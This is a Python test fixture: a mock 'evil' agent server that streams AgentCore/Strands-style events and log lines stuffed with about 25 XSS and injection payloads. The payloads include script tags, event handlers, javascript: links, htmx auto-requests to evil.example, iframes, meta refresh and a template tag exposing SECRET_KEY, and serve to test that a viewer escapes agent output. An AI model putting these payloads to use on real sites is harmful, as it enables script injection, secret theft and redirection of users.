"""An agent that means harm: a program the emulator runs, whose answers, tool calls and log lines are all attempts.

`POST /invocations` streams what Strands Agents would; a prompt with the word "fail" ends in an error of the same kind.
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# Each would set `window.harmed`, ask a foreign host or move the reader elsewhere, were it taken for markup.
ATTEMPTS = (
    "<script>window.harmed = 'script'</script>",
    "</pre></textarea></title></style><script>window.harmed = 'broken out'</script>",
    "<img src=x onerror=\"window.harmed = 'handler'\">",
    "<img src='https://evil.example/pixel.png?text'>",
    "![a picture](https://evil.example/picture.png)",
    "![](//evil.example/relative.png)",
    "[a link](javascript:window.harmed='link')",
    "[one more](JaVaScRiPt&colon;window.harmed='entity')",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=)",
    "<javascript:window.harmed='autolink'>",
    "<a href=\"javascript:window.harmed='anchor'\">anchor</a>",
    "<div hx-get=\"https://evil.example/htmx\" hx-trigger=\"load\">hx</div>",
    "<div data-hx-post=\"/agents/register/\" hx-trigger=\"load\" hx-on::load=\"window.harmed = 'hx-on'\">hx</div>",
    "<svg onload=\"window.harmed = 'svg'\"><use href='https://evil.example/#x'></use></svg>",
    "<svg><script>window.harmed = 'svg script'</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.harmed = 'mathml'\"></style></mglyph></table>",
    "<iframe src='https://evil.example/frame' srcdoc='<script>parent.harmed = 1</script>'></iframe>",
    "<form action='https://evil.example/form'><input name=x autofocus onfocus=\"window.harmed = 'focus'\"></form>",
    "<style>@import 'https://evil.example/style.css'; body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/link.css'><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<div id=signals ws-connect='/ws/evil' hx-ext=ws hx-swap-oob='true'>oob</div>",
    "<details open ontoggle=\"window.harmed = 'toggle'\">toggle</details>",
    "```html onload=window.harmed=1\n<script>window.harmed = 'fence'</script>\n```",
    "{% debug %}{{ settings.SECRET_KEY }}",
)  # fmt: skip
EVIL = " ".join(attempt for attempt in ATTEMPTS if "\n" not in attempt)


def events(prompt: str) -> Iterator[dict[str, Any]]:
    """What the agent streams in answer to a prompt."""
    tool = {"name": EVIL[:300], "toolUseId": '"><script>window.harmed="id"</script>'}
    yield {"event": {"contentBlockStart": {"start": {"toolUse": tool}}}}
    yield {"event": {"contentBlockDelta": {"delta": {"toolUse": {"input": json.dumps({"text": EVIL})}}}}}
    yield {"event": {"contentBlockStop": {}}}
    content = [{"toolResult": {"toolUseId": tool["toolUseId"], "status": "success", "content": [{"text": EVIL}]}}]
    yield {"message": {"role": "user", "content": content}}
    for attempt in ATTEMPTS:
        # In two pieces, because what is harmless in each may not be so together.
        middle = len(attempt) // 2
        for piece in (attempt[:middle], attempt[middle:], "\n\n"):
            yield {"event": {"contentBlockDelta": {"delta": {"text": piece}}}}
    yield {"event": {"contentBlockDelta": {"delta": {"text": f"You asked: {prompt}\n\nThat was all."}}}}
    if "fail" in prompt:
        yield {"error": EVIL, "error_type": "<script>window.harmed = 'type'</script>", "message": EVIL}


class EvilHandler(BaseHTTPRequestHandler):
    """AgentCore's container contract."""

    def do_GET(self) -> None:
        self._begin("application/json")
        self.wfile.write(b'{"status": "Healthy"}')

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        record = {"level": "ERROR", "logger": EVIL[:200], "message": EVIL, "sessionId": "evil"}
        for line in (json.dumps(record), f"WARNING {EVIL}", "\x1b[31mred\x1b[0m"):
            sys.stdout.write(f"{line}\n")
        sys.stdout.flush()
        self._begin("text/event-stream")
        for event in events(str(body.get("prompt", ""))):
            self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
            self.wfile.flush()

    def _begin(self, content_type: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing of one's own."""


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), EvilHandler).serve_forever()
